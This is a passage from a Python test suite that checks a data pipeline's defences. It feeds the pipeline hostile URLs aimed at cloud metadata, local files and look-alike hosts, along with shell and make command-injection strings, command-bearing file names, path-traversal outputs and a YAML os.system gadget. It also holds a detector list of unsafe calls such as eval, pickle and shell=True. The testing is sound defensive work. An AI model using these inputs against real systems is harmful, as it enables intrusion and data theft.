            if shell is not None and not (isinstance(shell, ast.Constant) and shell.value is False):
                found.add("shell=True")
    return found


PLANTED = {
    "import pickle": "pickle",
    "from pickle import loads": "pickle",
    "import joblib": "joblib",
    "import marshal": "marshal",
    "import shelve": "shelve",
    "import tarfile": "tarfile",
    "eval(text)": "eval",
    "exec(text)": "exec",
    "import os\nos.system(text)": "os.system",
    "from os import system": "os.system",
    "os.popen(text)": "os.popen",
    "subprocess.run(text, shell=True)": "shell=True",
    "subprocess.run(text, shell=yes)": "shell=True",
    "yaml.load(text)": "yaml.load",
    "yaml.load(text, yaml.Loader)": "yaml.load",
    "yaml.load(text, Loader=Loader)": "yaml.load",
    "yaml.unsafe_load(text)": "yaml.unsafe_load",
    "yaml.full_load(text)": "yaml.full_load",
    "pd.read_pickle(path)": "pd.read_pickle",
    "archive.extractall(to)": "archive.extractall",
    "np.load(path)": "np.load",
    "__import__(name)": "__import__",
    "shutil.unpack_archive(path)": "shutil.unpack_archive",
}


@pytest.mark.parametrize("source", PLANTED)
def test_unsafe_source_is_found(source):
    assert PLANTED[source] in unsafe(source)


@pytest.mark.parametrize("place", ["src", "benchmarks", "notebooks"])
def test_no_source_runs_what_it_reads(place):
    if place == "notebooks":
        code = {
            path.name: "\n".join(
                "".join(cell["source"]) for cell in json.loads(path.read_text())["cells"] if cell["cell_type"] == "code"
            )
            for path in paths.NOTEBOOKS.glob("*.ipynb")
        }
    else:
        code = {
            path.relative_to(ROOT).as_posix(): path.read_text(encoding="utf-8") for path in (ROOT / place).rglob("*.py")
        }
    assert code
    assert {(name, use) for name, source in code.items() for use in unsafe(source)} - LET == set()


# --- Servers that misbehave -----------------------------------------------------------------------------------------

ADDRESSES = {
    "without encryption": "http://www.state.gov/a", "another host": "https://evil.example/a", "user before the host":
    "https://www.state.gov@evil.example/a", "host in front": "https://www.state.gov.evil.example/a",
    "ending alike": "https://notstate.gov/a", "a file": "file:///etc/passwd", "ftp": "ftp://www.state.gov/a",
    "data of a machine in the cloud": "http://169.254.169.254/latest", "own network": "http://192.168.0.1/a",
    "own network by IPv6": "http://[::ffff:10.0.0.1]/a", "user and more": "https://a:" + "b@www.state.gov/a",
    "another port": "https://www.state.gov:8443/a", "javascript": "javascript:alert(1)", "no host": "https:///a",
    "another port of this machine": "http://127.0.0.1:1/a",
}  # fmt: skip


@pytest.fixture
def guarded(server, make):  # noqa: F811
    """A client that may ask the publishers and the local server, and nobody else."""
    return lambda **changes: make(hosts=(server.url,), **changes)


@pytest.mark.parametrize("name", ADDRESSES)
def test_address_that_is_no_publishers_is_not_asked(guarded, monkeypatch, name):
    monkeypatch.setattr(client.requests.Session, "get", lambda *_, **__: pytest.fail("it was asked"))
    with pytest.raises(client.FetchError, match="not one of the publishers|not encrypted|not fetched"):
        guarded().get(ADDRESSES[name], "a")


@pytest.mark.parametrize("name", ADDRESSES)
def test_redirect_away_from_the_publishers_is_not_followed(server, guarded, name):  # noqa: F811
    server.on("/a", answer(status=302, Location=ADDRESSES[name]))
    with pytest.raises(client.FetchError, match="not one of the publishers|not encrypted|no web address|not fetched"):
        guarded(attempts=1).get(f"{server.url}/a", "a")


@pytest.mark.parametrize("name", ADDRESSES)
def test_robots_are_not_read_from_another_host(server, guarded, name):  # noqa: F811
    server.on("/robots.txt", answer(status=302, Location=ADDRESSES[name]))
    server.on("/a", answer(b"made up"))
    with pytest.raises(client.FetchError, match="not fetched"):
        guarded(attempts=1).get(f"{server.url}/a", "a")
    assert server.asked("/a") == []


def pieces(n: int, piece: bytes, pause_s: float = 0.0):
    """What a server does that sends a body in many pieces."""

    def send(handler) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html")
        handler.end_headers()
        try:
            for _ in range(n):
                handler.wfile.write(piece)
                handler.wfile.flush()
                clock.sleep(pause_s)
        except OSError:
            pass
        handler.close_connection = True

    return send


endless, dripping = pieces(2_000, b"a" * 65_536), pieces(200, b"a", 0.02)


BODIES = {
    "that says it is too long": (answer(b"made up", length=10**9), {}, "1,000,000,000 bytes"),
    "without end": (endless, {}, "more than"),
    "that bursts when unpacked": (
        answer(gzip.compress(b"a" * 50_000_000), Content_Encoding="gzip"), {}, "more than"),
    "that drips": (dripping, {"most_s": 0.3, "clock": clock.monotonic}, "more than 0.3 s"),
    "of a program": (answer(b"MZ", kind="application/x-msdownload"), {}, "comes as application/x-msdownload"),
    "of no type": (answer(b"made up", kind=""), {}, "comes as nothing named"),
    "that says two things": (answer(b"<script>", kind="application/json, text/html"), {}, "comes as"),
}  # fmt: skip


@pytest.mark.parametrize("name", BODIES)
def test_body_is_given_up(server, guarded, tmp_path, name):  # noqa: F811
    behaviour, options, words = BODIES[name]
    server.on("/a", behaviour)
    with within(60, waiting=True), pytest.raises(client.FetchError, match=words):
        guarded(attempts=1, most_bytes=2_000_000, delay_s=0.0, **options).get(f"{server.url}/a", "a")
    assert not (tmp_path / "a").exists()
    assert sum(path.stat().st_size for path in tmp_path.rglob("*") if path.is_file()) < 3_000_000


@pytest.mark.parametrize("behaviour", [endless, dripping], ids=["without end", "dripping"])
def test_robots_that_do_not_end_are_given_up(server, guarded, behaviour):  # noqa: F811
    server.on("/robots.txt", behaviour)
    server.on("/a", answer(b"made up"))
    with within(60, waiting=True), pytest.raises(client.FetchError, match="not fetched"):
        guarded(attempts=1, most_s=0.3, clock=clock.monotonic, delay_s=0.0).get(f"{server.url}/a", "a")
    assert server.asked("/a") == []


def test_workbook_that_a_page_links_to_elsewhere_is_not_fetched(server, command):  # noqa: F811
    server.on(f"{EDITION}serbia/", answer(LAYOUTS["h2 in sections"]))
    server.on("/page", answer(b"<a href='https://evil.example/data_glotip.xlsx'>x</a>"))
    status, _, err = command("--workbook", f"{server.url}/page")
    assert status == 1 and "not one of the publishers" in err


PLACES = {
    "through ..": lambda raw, tmp: ["--cache", f"{raw}/../raw/x"],
    "through a link": lambda raw, tmp: ["--cache", str(link(tmp / "link", raw) / "x")],
    "table of narratives": lambda raw, tmp: ["--cache", str(tmp), "--to", f"{raw}/tip/x.csv"],
    "table of narratives, through ..": lambda raw, tmp: ["--cache", str(tmp), "--to", f"{raw}/tip/../x.csv"],
}  # fmt: skip


def link(place: Path, to: Path) -> Path:
    place.symlink_to(to)
    return place


@pytest.mark.parametrize("name", PLACES)
def test_download_never_goes_to_the_raw_tables(tmp_path, name):
    with pytest.raises(SystemExit) as stopped:
        fetch(PLACES[name](paths.RAW, tmp_path))
    assert stopped.value.code == 2


# --- What is typed --------------------------------------------------------------------------------------------------

VALUES = {
    "shell of make": "$(shell touch planted)",
    "command": "$(touch planted)",
    "command behind two signs": "$$(touch planted)",
    "backquotes": "`touch planted`",
    "out of apostrophes": "'; touch planted; '",
    "out of quotation marks": '"; touch planted; "',
    "second line": "a=b\ntouch planted",
    "second command": "a=b; touch planted",
    "both": "a=b && touch planted",
    "or": "a=b || touch planted",
    "pipe": "a=b | touch planted",
    "written": "a=b > planted",
    "background": "a=b & touch planted",
    "recipe of make": "a: ; touch planted #",
    "recipe in a new line": "a:\n\ttouch planted\nb",
    "define": "x$(eval planted:=$(shell touch planted))",
    "wildcard": "*",
    "home": "~root",
    "backslash": "a\\",
    "backslash and line": "a\\\ntouch planted",
    "percent": "%",
    "comment": "#",
    "variable": "${HOME}",
    "parent folders": "../../planted",
    "option": "--to=planted",
    "nothing but dots": "..",
    "carriage return": "a=b\rtouch planted",
    "spaces": "a b c",
}
# A target in which the variable is used.
TYPED = {
    "PARAMS": "notebooks",
    "COUNTRY": "notebooks",
    "SET": "notebooks",
    "NARRATIVES": "extract",
    "SCORES": "extract",
    "PRINT": "pdf",
    "YEARS": "fetch",
    "COUNTRIES": "fetch",
    "FETCH": "fetch",
    "WORKERS": "multiverse",
    "SCHEDULER": "publication-designs",
    "QUICK": "multiverse",
}
# Notes each argument, and makes the folder that make expects.
STUB = r"""#!/bin/sh
{ for argument; do printf '%s\037' "$argument"; done; printf '\036'; } >> LOG
case "$*" in *"notebooks parameters"*)
    while [ "$1" != --to ]; do shift; done; mkdir -p "$2"
esac
"""


@pytest.fixture(scope="module")
def tree(tmp_path_factory):
    """The Makefile in a folder of its own, with files of the right names, and a Python that notes what it is told."""
    folder = tmp_path_factory.mktemp("tree")
    shutil.copy(ROOT / "Makefile", folder)
    for path in [
        *paths.NOTEBOOKS.glob("*.ipynb"),
        *paths.PARAMS.glob("*.yml"),
        *paths.RAW.rglob("*.*"),
        paths.CORRECTIONS,
        ROOT / "requirements.txt",
        ROOT / "pyproject.toml",
        ROOT / "README.md",
        *paths.DOCS.glob("*.md"),
        *(ROOT / "src/sentencing").rglob("*.py"),
        *paths.RESULTS.glob("*.csv"),
        ROOT / "CITATION.cff",
        ROOT / "LICENSE-DATA.md",
    ]:
        place = folder / path.relative_to(ROOT)
        place.parent.mkdir(parents=True, exist_ok=True)
        place.touch()
    python = folder / ".venv" / "bin" / "python"
    python.parent.mkdir(parents=True)
    python.write_text(STUB.replace("LOG", f"'{folder}/log'"))
    python.chmod(0o755)
    (folder / ".venv" / ".ready").touch()
    return folder


def run_make(tree: Path, *arguments: str, **environment: str) -> tuple[subprocess.CompletedProcess, list[list[str]]]:
    """What make said, and what each Python was told."""
    for place in planted(tree):
        place.unlink()
    (tree / "log").unlink(missing_ok=True)
    shutil.rmtree(tree / "build", ignore_errors=True)
    done = subprocess.run(["make", *arguments], cwd=tree, capture_output=True, text=True, timeout=60,
                          env={"PATH": "/usr/bin:/bin", "HOME": "/nowhere", **environment})  # fmt: skip
    log = (tree / "log").read_bytes().decode() if (tree / "log").exists() else ""
    return done, [call.split("\x1f")[:-1] for call in log.split("\x1e")[:-1]]


def planted(tree: Path) -> list[Path]:
    """Files that an attack has made, wherever it may have put them."""
    return [p for place in (tree, tree.parent, tree.parent.parent) for p in place.glob("*planted*") if p.is_file()]


USUAL = ("shell of make", "out of apostrophes", "second line")


@pytest.mark.parametrize(
    "name", [name if name in USUAL else pytest.param(name, marks=pytest.mark.slow) for name in VALUES]
)
@pytest.mark.parametrize("variable", TYPED)
def test_typed_value_is_refused_or_taken_as_it_stands(tree, variable, name):
    if not shutil.which("make"):
        pytest.skip("make is not installed")
    before = {path for path in tree.parent.rglob("*") if tree not in path.parents}
    needed = ["NARRATIVES=x"] if variable == "SCORES" else []
    done, told = run_make(tree, TYPED[variable], f"{variable}={VALUES[name]}", *needed)
    assert planted(tree) == [] and {p for p in tree.parent.rglob("*") if tree not in p.parents} == before
    outside = {p.relative_to(tree).parts[0] for p in tree.rglob("*")} - {
        "build",
        "log",
        ".venv",
        "Makefile",
        "data",
        "docs",
        "notebooks",
        "params",
        "src",
        "results",
        "requirements.txt",
        "pyproject.toml",
        "README.md",
        "CITATION.cff",
        "LICENSE-DATA.md",
    }
    assert outside == set()
    words = [value for call in told for argument in call for value in (argument, argument.partition("=")[2])]
    refused = done.returncode != 0 and ("cannot be used" in done.stderr or "is no name of" in done.stderr)
    pieces = (
        [VALUES[name]]
        if variable in ("NARRATIVES", "SCORES", "PRINT", "YEARS", "COUNTRIES", "WORKERS", "SCHEDULER")
        else VALUES[name].split()
    )
    if not refused and variable not in ("QUICK", "PARAMS"):
        assert set(pieces) - set(words) <= {f"country={piece}" for piece in pieces} or all(
            any(piece in word for word in words) for piece in pieces
        ), (told, done.stderr)


@pytest.mark.parametrize("name", ["shell of make", "second command", "second line", "recipe of make"])
@pytest.mark.parametrize(
    "variable",
    ["NARRATIVES", *(pytest.param(v, marks=pytest.mark.slow) for v in ("PARAMS", "COUNTRY", "SET", "YEARS"))],
)
def test_value_of_the_environment_is_no_command_either(tree, variable, name):
    run_make(tree, TYPED[variable], **{variable: VALUES[name]})
    assert planted(tree) == []


def test_honest_values_reach_the_programs(tree):
    done, told = run_make(
        tree, "site", "COUNTRY=MKD", "SET=conflict_rule=latest again_years=[2,5]", "PARAMS=params/quick.yml"
    )
    assert done.returncode == 0, done.stderr
    (resolved,) = (call for call in told if "parameters" in call)
    assert {"--set=country=MKD", "--set=conflict_rule=latest", "--set=again_years=[2,5]"} <= set(resolved)
    done, told = run_make(tree, "extract", "NARRATIVES=my folder/it's (new)", "SCORES=results/x.csv")
    assert "my folder/it's (new)" in told[-1] and "--scores=results/x.csv" in told[-1]
    done, told = run_make(tree, "fetch", "YEARS=2017,2019-2021", "COUNTRIES=SRB,BGR", "FETCH=--workbook --delay 5")
    assert told[-1][2:] == ["--years=2017,2019-2021", "--countries=SRB,BGR", "--workbook", "--delay", "5"]
    assert run_make(tree, "fetch")[1][-1][2:] == ["--years=2018", "--countries=SRB"]


FILE_NAMES = [
    "x;touch planted;.csv",
    "$(shell touch planted).csv",
    "x y.csv",
    "x:y.csv",
    "x#y.csv",
    "x|y.csv",
    "x\ny.csv",
    "x%y.csv",
    "-x\ttouch planted.csv",
    "`touch planted`.csv",
]


@pytest.mark.parametrize("folder", ["data/raw", *(pytest.param(folder, marks=pytest.mark.slow)
                                                for folder in ("docs", "notebooks", "data/processed"))])  # fmt: skip
@pytest.mark.parametrize("name", FILE_NAMES)
def test_file_with_a_command_for_a_name_is_refused(tree, folder, name):
    place = tree / folder / name.replace(".csv", {"docs": ".md", "notebooks": ".ipynb"}.get(folder, ".csv"))
    place.parent.mkdir(exist_ok=True)
    place.touch()
    try:
        done, told = run_make(tree, "all")
        assert planted(tree) == [] and told == [] and done.returncode == 2 and "Rename" in done.stderr
    finally:
        place.unlink()


OUTPUTS = {
    "parent": "../planted.json", "parent inside": "results/../../planted.json", "root": "/planted.json",
    "far": "build/../../../../../../../../tmp/planted.json", "raw": "data/raw/planted.json", "git": ".git/planted",
    "nothing": ".", "program": "src/sentencing/planted.py",
}  # fmt: skip


@pytest.mark.parametrize("name", OUTPUTS)
@pytest.mark.parametrize("given_by", ["command line", "parameter file"])
def test_output_elsewhere_is_refused_before_anything_runs(tmp_path, name, given_by):
    params = tmp_path / "p.yml"
    section = {"02-clean-national-centre": {"out_victims": OUTPUTS[name]}} if given_by == "parameter file" else {}
    params.write_text(yaml.safe_dump(section), encoding="utf-8")
    line = {"out_victims": OUTPUTS[name]} if given_by == "command line" else {}
    with pytest.raises(notebooks.ParameterError, match="out_victims"):
        notebooks.resolve_parameters(params, line)


@pytest.mark.parametrize("name", ["parent", "parent inside", "root", "far"])
@pytest.mark.parametrize("staged", [True, False])
def test_output_is_never_written_outside_the_repository(tmp_path, monkeypatch, name, staged):
    if staged:
        monkeypatch.setenv(paths.STAGE_VARIABLE, str(tmp_path))
        with pytest.raises(ValueError, match="below"):
            paths.output(OUTPUTS[name])
    else:
        monkeypatch.delenv(paths.STAGE_VARIABLE, raising=False)
        # In JupyterLab a reader may put a table wherever it is wanted; only a build may not.
        assert paths.output(OUTPUTS[name])


CHOICES = {"country": ["../../x", "$(id)", "<script>", "SRB; id", "=1+1", "srb"],
           "first_year": ["2000; id", "!!python/object/apply:os.system [id]", "[" * 5_000, "1" * 10_000],
           "conflict_rule": ["../x", "$(id)"]}  # fmt: skip


@pytest.mark.parametrize(("key", "value"), [(key, value) for key, found in CHOICES.items() for value in found],
                         ids=lambda text: text[:24])  # fmt: skip
def test_hostile_parameter_is_a_fault_or_stays_a_text(key, value):
    with within(5):
        try:
            resolved = notebooks.resolve_parameters(paths.PARAMS / "default.yml", {key: value})
        except notebooks.ParameterError as error:
            assert key in str(error) and len(str(error)) < 10_000
            return
    taken = {parameters[key] for parameters in resolved.values() if key in parameters}
    assert taken == {value} and key != "first_year"
    if key == "country":
        with pytest.raises(ValueError, match="ISO 3166-1"):
            schemas.country_name(value)


@pytest.mark.parametrize("page", ["../x", "../../x", "/etc/x", "a/b", "..", "x\0y", "*", "index.html#a", "a\\b"])
def test_page_to_print_is_a_page_and_no_path(tmp_path, page):
    (tmp_path / "site").mkdir()
    for place in (tmp_path / "x.html", tmp_path / "site" / "index.html"):
        place.write_text("<p>x</p>")
    with pytest.raises(site.SiteError, match="no page"):
        pdf.print_pages(tmp_path / "site", tmp_path / "pdf", [page])
    assert list(tmp_path.rglob("*.pdf")) == []
